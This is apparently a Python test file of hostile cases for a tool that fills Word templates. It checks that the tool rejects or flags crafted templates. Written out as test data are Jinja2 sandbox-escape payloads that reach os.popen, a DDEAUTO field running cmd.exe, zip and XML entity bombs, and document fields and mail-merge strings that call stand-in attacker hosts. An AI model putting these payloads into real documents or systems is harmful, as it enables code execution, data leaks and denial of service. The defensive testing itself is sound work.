"""Hostile cases: Word templates given with --template (see hostile.py for the contract).

Each template is the shipped RAG template with one paragraph added (as if
typed in Word), or with parts replaced; the workbook is a small valid plan.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.bad_inputs.crafted_docx import (
    SHIPPED,
    badly_named_entry,
    complex_field,
    crafted_template,
    damaged_entry,
    encrypted_entry,
    linked_template,
    simple_field,
    with_notes,
    with_parts,
)
from tests.bad_inputs.hostile import HostileCase
from tests.conftest import write_plan_workbook

WORKBOOK = "plan.xlsx"
#: Long enough for the small plan on a machine busy with the rest of the suite; the cases
#: about the time budget itself give a shorter one (BUDGET), so they stay fast.
TIMEOUT = ("--template-timeout", "10")
BUDGET = ("--template-timeout", "3")


def _build_with(make_template: Callable[[Path], Path], *extra: str) -> Callable[[Path], list[str]]:
    def setup(folder: Path) -> list[str]:
        write_plan_workbook(folder / WORKBOOK)
        template = make_template(folder / "template.docx")
        return ["build", WORKBOOK, "-o", "out", "--template", template.name, *TIMEOUT, *extra]

    return setup


def _payload(text: str, *extra: str) -> Callable[[Path], list[str]]:
    return _build_with(lambda path: crafted_template(path, text), *extra)


def _bytes(data: bytes) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return make


def _zip_bomb(path: Path) -> Path:
    """A .docx whose document part claims 20 MB of zeros in 20 KB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", bytes(20_000_000))
    return path


def _with_doctype(path: Path) -> Path:
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><x>&a;&a;&a;</x>'
    return crafted_template(path, replace={"word/webSettings.xml": evil})


def _footer_printing_markup(path: Path) -> Path:
    """A footer tag that prints raw, unbalanced XML (|safe), breaking the footer part."""
    with zipfile.ZipFile(SHIPPED) as source:
        footer = source.read("word/footer1.xml").decode("utf-8")
    tag = "<w:p><w:r><w:t>{{ '&lt;w:p&gt;'|safe }}</w:t></w:r></w:p>"
    footer = footer.replace("</w:ftr>", tag + "</w:ftr>")
    return crafted_template(path, replace={"word/footer1.xml": footer.encode("utf-8")})


def _without_body(path: Path) -> Path:
    return crafted_template(path, replace={"word/document.xml": b"<x/>"})


_DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" '
_CHAIN = ".".join(["real"] * 20)


def _footnote_fields(path: Path) -> Path:
    """A footnote holding an INCLUDEPICTURE and a DDEAUTO field (python-docx never loads it)."""
    picture = simple_field(' INCLUDEPICTURE "http://tracker.example.com/fn.png" \\d ')
    return with_notes(path, "footnote", picture + "<w:p>" + complex_field(_DDE) + "</w:p>")


def _field_built_by_field(path: Path) -> Path:
    inner = complex_field(' QUOTE "INCLUDETEXT \\"C:\\\\Windows\\\\win.ini\\"" ', "q")
    return with_parts(
        path,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + inner
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )


def _database_fields(path: Path) -> Path:
    database = ' DATABASE \\d "\\\\\\\\attacker\\\\share\\\\db.xlsx" \\s "SELECT 1" '
    document = ' RD "\\\\\\\\attacker\\\\share\\\\chapter.docx" '
    return with_parts(path, "<w:p>" + complex_field(database) + "</w:p>" + simple_field(document))


def _mail_merge(path: Path) -> Path:
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Data Source=\\\\attacker.example.com\\share\\data.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'
    )
    return with_parts(path, settings_insert=merge)


def _alt_chunk(path: Path) -> Path:
    return with_parts(
        path,
        '<w:altChunk r:id="rIdAC1"/>',
        parts={"word/chunk1.htm": b'<html><img src="http://tracker.example.com/p.png"></html>'},
        content_types={"word/chunk1.htm": "text/html"},
        document_rels=[("rIdAC1", "aFChunk", "chunk1.htm")],
    )


def _footnote_printing_markup(path: Path) -> Path:
    note = "<w:p><w:r><w:t>{{ '&lt;w:p&gt;'|safe }}</w:t></w:r></w:p>"
    return with_notes(path, "footnote", note)


def _footnote_printing_council(folder: Path) -> list[str]:
    """Workbook text with tags, printed in a footnote: rendered once, so printed literally."""
    write_plan_workbook(folder / WORKBOOK, plan={"council": "Evil {{ 7*7 }} {{ plan.title|safe }}"})
    note = '<w:p><w:r><w:t xml:space="preserve">Council: {{ plan.council }}</w:t></w:r></w:p>'
    with_notes(folder / "template.docx", "footnote", note)
    return ["build", WORKBOOK, "-o", "out", "--template", "template.docx", *TIMEOUT]


def _long_details(folder: Path) -> list[str]:
    """A council name, title and author over the 255 characters a document property holds."""
    write_plan_workbook(
        folder / WORKBOOK, plan={"council": "C" * 300, "title": "T" * 300, "author": "A" * 300}
    )
    return ["build", WORKBOOK, "-o", "out"]


def _paragraph_loop(path: Path) -> Path:
    """10,500 turns of 1,000 empty paragraphs: ten million, far more than any plan has."""
    loop = (
        "<w:p><w:r><w:t>{%p for i in range(10500) %}</w:t></w:r></w:p>"
        + "<w:p/>" * 1000
        + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>"
    )
    return with_parts(path, loop)


def _into_output(folder: Path) -> list[str]:
    """The template sits where the plan would be written."""
    write_plan_workbook(folder / WORKBOOK)
    (folder / "out").mkdir()
    crafted_template(folder / "out" / "plan.docx")
    return ["build", WORKBOOK, "-o", "out", "--template", "out/plan.docx"]


CASES: list[HostileCase] = [
    HostileCase(
        "template-runs-shell-command",
        "a tag reaching os.popen through a Jinja2 global's __globals__",
        _payload("{{ cycler.__init__.__globals__.os.popen('touch PWNED; id').read() }}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE", "{{ cycler.__init__.__globals__.os.popen('touch PWNED; id')"),
        never_says=("uid=",),
        must_not_exist=("PWNED", "out/plan.docx"),
    ),
    HostileCase(
        "template-class-walk",
        "the classic sandbox escape start: a string's class and its MRO",
        _payload("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE", "''.__class__.__mro__"),
        never_says=("<class",),
        must_not_exist=("out/plan.docx",),
    ),
    HostileCase(
        "template-writes-file-through-chart",
        "the chart picture object leads to the document and its save()",
        _payload("{{ summary.chart.tpl.save('SAVED.docx') }}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE", "summary.chart.tpl.save"),
        must_not_exist=("SAVED.docx", "out/plan.docx"),
    ),
    HostileCase(
        "template-format-string-escape",
        "str.format reaching attributes of its arguments",
        _payload("{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE",),
        never_says=("__builtins__",),
    ),
    HostileCase(
        "template-endless-recursion",
        "a macro that calls itself for ever",
        _payload("{% macro f(n) %}{{ f(n+1) }}{% endmacro %}{{ f(0) }}"),
        exit_code=2,
        says=("calls itself without end",),
        never_says=("RecursionError",),
    ),
    HostileCase(
        "template-endless-loop",
        "ten billion loop turns: stopped by the time budget",
        _payload(
            "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
            *BUDGET,
        ),
        exit_code=2,
        says=("took longer than 3 seconds", "--template-timeout"),
        subprocess=True,
        timeout=60,
    ),
    HostileCase(
        "template-huge-range",
        "range(10**9) would run for hours",
        _payload("{% for i in range(10**9) %}x{% endfor %}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE", "range"),
    ),
    HostileCase(
        "template-string-bomb",
        "a gigabyte string made with *",
        _payload("{{ 'x' * 10**9 }}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE", "repeating"),
    ),
    HostileCase(
        "template-padding-bomb",
        "a gigabyte of padding made by a format width",
        _payload("{{ '{:999999999}'.format(1) }}"),
        exit_code=2,
        says=("TEMPLATE_UNSAFE",),
    ),
    HostileCase(
        "template-deep-nesting",
        "tags nested thousands deep, which exhaust the parser's stack",
        _payload("{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000),
        exit_code=2,
        says=("TEMPLATE_UNSAFE", "nested too deeply"),
        never_says=("RecursionError",),
    ),
    HostileCase(
        "template-outside-links",
        "an attached template on a web server, UNC and file: links, a linked picture",
        _build_with(linked_template),
        exit_code=0,
        says=("TEMPLATE_EXTERNAL_LINK", "an attached template", "Wrote out/plan.docx"),
    ),
    HostileCase(
        "template-prints-a-field-with-safe",
        "a tag printing an INCLUDETEXT field as raw markup with |safe: no template check can see it",
        _payload(
            '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT http://evil.example/x">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:t>' | safe }}"
        ),
        exit_code=0,
        says=(
            "TEMPLATE_EXTERNAL_LINK",
            "links to INCLUDETEXT http://evil.example/x (INCLUDETEXT field, printed by one of its tags)",
            "Wrote out/plan.docx",
        ),
    ),
    HostileCase(
        "template-not-a-docx",
        "a CSV file named .docx",
        _build_with(_bytes(b"Council,Plan\nA,B\n")),
        exit_code=2,
        says=("Cannot open the Word template", "not a Word document (.docx)"),
    ),
    HostileCase(
        "template-is-a-workbook",
        "the plan workbook given as the template",
        _build_with(lambda path: write_plan_workbook(path)),
        exit_code=2,
        says=("an Excel workbook, not a Word document",),
    ),
    HostileCase(
        "template-truncated",
        "half a .docx (an interrupted download)",
        _build_with(_bytes(SHIPPED.read_bytes()[: SHIPPED.stat().st_size // 2])),  # any size
        exit_code=2,
        says=("Cannot open the Word template", "damaged"),
    ),
    HostileCase(
        "template-zip-bomb",
        "a document part that expands a thousand times",
        _build_with(_zip_bomb),
        exit_code=2,
        says=("far too large once unpacked",),
    ),
    HostileCase(
        "template-doctype",
        "an XML part declaring entities (billion laughs)",
        _build_with(_with_doctype),
        exit_code=2,
        says=("unsafe XML",),
    ),
    HostileCase(
        "template-footer-breaks-xml",
        "a footer tag printing unbalanced raw XML",
        _build_with(_footer_printing_markup),
        exit_code=2,
        says=("produced invalid XML",),
    ),
    HostileCase(
        "template-without-body",
        "a .docx whose main part is not a Word document",
        _build_with(_without_body),
        exit_code=2,
        says=("no document body",),
    ),
    HostileCase(
        "template-in-output-folder",
        "the template is where the plan would be written",
        _into_output,
        exit_code=2,
        says=("same file as the input",),
    ),
    HostileCase(
        "template-footnote-fields",
        "INCLUDEPICTURE and DDEAUTO fields in a footnote, a part python-docx never loads",
        _build_with(_footnote_fields),
        exit_code=0,
        says=("INCLUDEPICTURE field", "DDEAUTO field", "Wrote out/plan.docx"),
    ),
    HostileCase(
        "template-field-built-by-field",
        '{ { QUOTE "INCLUDETEXT ..." } }: the instruction is made when fields update',
        _build_with(_field_built_by_field),
        exit_code=0,
        says=("a field named by a field", "INCLUDETEXT", "Wrote out/plan.docx"),
    ),
    HostileCase(
        "template-database-fields",
        "DATABASE and RD fields reading a file share",
        _build_with(_database_fields),
        exit_code=0,
        says=("DATABASE field", "RD field"),
    ),
    HostileCase(
        "template-mail-merge",
        "a mail-merge connection string and query in the settings",
        _build_with(_mail_merge),
        exit_code=0,
        says=("a mail-merge source",),
    ),
    HostileCase(
        "template-alt-chunk",
        "an HTML altChunk with a tracking picture",
        _build_with(_alt_chunk),
        exit_code=0,
        says=("an embedded chunk", "word/chunk1.htm"),
    ),
    HostileCase(
        "template-footnote-workbook-tags",
        "workbook text with tags printed in a footnote (rendered once, so literal)",
        _footnote_printing_council,
        exit_code=0,
        says=("Wrote out/plan.docx",),
        never_says=("Evil 49",),
    ),
    HostileCase(
        "template-footnote-breaks-xml",
        "a footnote tag printing unbalanced raw XML (|safe)",
        _build_with(_footnote_printing_markup),
        exit_code=2,
        says=("produced invalid XML",),
        must_not_exist=("out/plan.docx",),
    ),
    HostileCase(
        "template-filter-past-time-budget",
        "map(attribute=...) over ten million items: one filter call, killed at the time budget",
        _payload(
            "{{ (range(100000)|list * 100)|map(attribute='" + _CHAIN + "')|list|length }}",
            *BUDGET,
        ),
        exit_code=2,
        says=("took longer than 3 seconds",),
        subprocess=True,
        timeout=60,
    ),
    HostileCase(
        "template-entry-encrypted",
        "the document part flagged as encrypted in the zip",
        _build_with(lambda path: encrypted_entry(SHIPPED, path, "word/document.xml")),
        exit_code=2,
        says=("Cannot open the Word template", "word/document.xml' is encrypted"),
    ),
    HostileCase(
        "template-entry-damaged",
        "the styles part's compressed bytes overwritten",
        _build_with(lambda path: damaged_entry(SHIPPED, path, "word/styles.xml")),
        exit_code=2,
        says=("Cannot open the Word template", "word/styles.xml is damaged"),
    ),
    HostileCase(
        "template-entry-bad-name",
        "a part name that is not UTF-8 although flagged so",
        _build_with(lambda path: badly_named_entry(SHIPPED, path, "docProps/app.xml")),
        exit_code=2,
        says=("Cannot open the Word template", "damaged"),
    ),
    HostileCase(
        "template-long-properties",
        "council, title and author of 300 characters (document properties hold 255)",
        _long_details,
        exit_code=0,
        says=("Wrote out/plan.docx",),
        never_says=("Word template",),
    ),
    HostileCase(
        "template-paragraph-loop",
        "10,500 copies of 1,000 paragraphs: stops with a clear error when its time is up",
        _build_with(_paragraph_loop, *BUDGET),
        exit_code=2,
        says=("took longer than 3 seconds",),
        subprocess=True,
        timeout=60,
    ),
]
